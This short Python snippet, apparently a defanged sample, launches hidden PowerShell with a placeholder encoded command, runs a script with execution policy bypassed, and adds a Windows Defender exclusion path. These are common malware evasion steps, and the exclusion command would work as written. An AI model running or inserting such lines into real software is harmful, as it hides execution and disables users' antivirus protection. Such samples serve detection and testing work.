import subprocess
subprocess.Popen("powershell -w hidden -EncodedCommand AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", shell=True)
subprocess.call("powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File inert.ps1")
subprocess.call("powershell Add-MpPreference -ExclusionPath C:\\inert")
